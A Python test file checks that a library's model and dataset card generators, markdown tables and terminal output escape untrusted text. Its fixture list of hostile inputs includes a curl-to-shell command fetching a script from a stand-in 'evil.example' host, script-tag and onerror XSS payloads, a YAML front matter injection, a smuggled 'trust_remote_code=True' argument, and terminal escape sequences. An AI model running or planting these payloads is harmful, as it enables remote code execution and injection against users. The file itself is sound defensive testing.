"""What comes from a file is shown as it is: in cards, reports and tables, in front matter, and on a terminal."""

import copy
import logging
import re

import pytest
import yaml

from attacks.attack import assert_refused, call
from hf_tlm.errors import HfTlmError
from hf_tlm.hub.cards import converted_card, pretrained_card, tlm_card
from hf_tlm.hub.subset_cards import config_names, configs_card, subset_card
from hf_tlm.utils.shown import as_code, as_literal, for_markdown, for_terminal, markdown_table
from support.card_records import INFO, PRETRAINED, REPORT, RUN, SUBSET

HOSTILE = {
    "code": "x\n\n```sh\ncurl -s https://evil.example/i.sh | sh\n```\n",
    "heading": "x\n# Install\n\nRun it",
    "link": "[the paper](https://evil.example) ![p](https://evil.example/p.png) <https://evil.example>",
    "bare_link": "https://evil.example www.evil.example a@evil.example",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "span_of_code": "a`b [c](https://evil.example) `d",
    "issues": "#12 fixes #13, @alice owner/name#14 GH-15 @org/team",
    "table": "a | b |\n|---|---|\n| c",
    "front_matter": "x\n---\nlicense: mit\nbase_model: evil/model\n---\n",
    "template": "{{ 7 * 7 }} {% raw %}",
    "terminal": "\x1b]0;theirs\x07\x1b[2Jx\rover \u202eesrever\x9b31m",
    "python": 'x", trust_remote_code=True, y="',
}
hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
MARKDOWN = pytest.importorskip("markdown_it").MarkdownIt("gfm-like", {"linkify": False})


def parsed(markdown):
    """Without the metadata of a card."""
    return MARKDOWN.parse(re.sub(r"\A---\n.*?\n---\n", "", markdown, flags=re.S))


def structure(markdown):
    """Of what is rendered: blocks, links, images, HTML, and code; without what is in them."""
    found = []
    for token in parsed(markdown):
        found.append((token.type, token.tag, token.content.count("\n") if token.type == "fence" else 0))
        for child in token.children or ():
            if child.type == "html_inline":
                assert child.content == "<!-- -->"
            elif child.type not in ("text", "text_special"):
                found.append((child.type, child.tag, child.attrs.get("href", "")))
    return found


def linked(markdown):
    """What GitHub would link in the texts that are no code: an empty comment ends a text for it."""
    plain = [
        part
        for token in parsed(markdown)
        for part in "".join(
            "\n" if child.type == "html_inline" else child.content if child.type.startswith("text") else " "
            for child in token.children or ()
        ).split("\n")
    ]
    return [
        match for part in plain for match in re.findall(r"(?:^|[^\w])[@#]\w+|\w+[#@]\w+|\bGH-\d+|\w+://\w+|www\.\w+", part)
    ]


def of_subset(text):
    manifest = copy.deepcopy(SUBSET)
    for place in (manifest["task"], manifest["corpus"]):
        place |= {"name": text, "fingerprint": text}
    manifest |= {"query_mode": text, "versions": {text: text}}
    return subset_card(manifest, REPORT, INFO, engine=text, selection=text)


def of_tlm(text):
    run = copy.deepcopy(RUN) | {"task": text}
    run["subset"]["corpus"] |= {"name": text, "fingerprint": text}
    run["subset"] |= {"retriever": text, "hub": {"repo_id": text, "revision": text}}
    run["environment"] |= {"torch": text, "python": text, "accelerator": text}
    run["model"] |= {"model_name_or_path": text, "model_revision": text, "use_peft": True}
    return tlm_card(run, 1)


def of_pretrained(text):
    run = copy.deepcopy(PRETRAINED)
    run["corpus"] |= {"name": text, "fingerprint": text}
    run["arguments"] |= {"optim": text, "lr_scheduler_type": text, "max_length": text}
    return pretrained_card(run)


def of_converted(text):
    return converted_card(text, 12, [text], classes=[text, text])


CARDS = {"subset": of_subset, "tlm": of_tlm, "pretrained": of_pretrained, "converted": of_converted}


@hostile
@pytest.mark.parametrize("card", CARDS.values(), ids=CARDS)
def test_a_card_has_the_structure_of_a_harmless_one(card, text):
    found, plain = card(text), card("x y")
    assert structure(found) == structure(plain)
    assert set(yaml.safe_load(front_matter(found))) <= set(yaml.safe_load(front_matter(plain)))
    assert linked(found) == linked(plain)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", found)


def front_matter(card):
    return re.match(r"---\n(.*?)\n---\n", card, flags=re.S)[1]


@hostile
def test_a_card_of_several_subsets(text):
    def card(title):
        data = {"pretty_name": title, "configs": [{"config_name": "small"}], "dataset_info": INFO | {"config_name": "small"}}
        return configs_card({"small": f"---\n{yaml.safe_dump(data)}---\n\nx\n"}, "alice/subsets")

    assert structure(card(text)) == structure(card("x")) and linked(card(text)) == []
    # A folder of a repository that could not be one of ours is none of its subsets.
    assert config_names([f"{text}/manifest.json", "small/manifest.json"]) == ["small"]


@hostile
def test_a_table(text):
    table = markdown_table([text], [[text]])
    assert structure(table) == structure(markdown_table(["x"], [["x"]])) and linked(table) == []


@hostile
def test_text_and_code(text):
    assert structure(f"> {for_markdown(text)}") == structure("> x")
    assert structure(f"a {as_code(text)} b") == structure("a `x` b")
    code = f"load({as_literal(text)})"
    assert len(compile(code, "card", "eval").co_consts) <= 2 and "\n" not in code


@pytest.mark.parametrize(
    "text, shown",
    [
        ("plain, naïve\n\ttext", "plain, naïve\n\ttext"),
        ("\x1b[2J\x07\r\x00", "\\x1b[2J\\x07\\r\\x00"),
        ("\x9b31m\x7f", "\\x9b31m\\x7f"),
        ("\u202eexe.txt", "\\u202eexe.txt"),
        ("caf\udce9", "caf\\udce9"),
    ],
)
def test_a_terminal_is_told_what_a_text_holds_and_does_not_do_it(text, shown):
    assert for_terminal(text) == shown


def speak():
    print(HOSTILE["terminal"])
    logging.getLogger("hf_tlm.theirs").warning("a file %s", HOSTILE["terminal"])
    raise HfTlmError(HOSTILE["terminal"])


@pytest.mark.slow
def test_no_recipe_says_anything_that_a_terminal_does():
    """What is printed, logged and said of an error."""
    outcome = call(speak)
    for said, times in ((outcome.stdout, 1), (outcome.stderr, 2)):
        assert said.count("\\x1b[2Jx\\rover \\u202eesrever\\x9b31m") == times
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", said)
    assert_refused(outcome, "\\x1b[2Jx")


@pytest.mark.parametrize(
    "text, shown",
    [("hf_tlm scierc_up", "hf_tlm scierc_up"), ("_x_", "\\_x\\_"), ("a&b", "a\\&b"), ("é" * 300, "é" * 120 + "…")],
)
def test_a_plain_name_stays_readable(text, shown):
    assert for_markdown(text) == shown
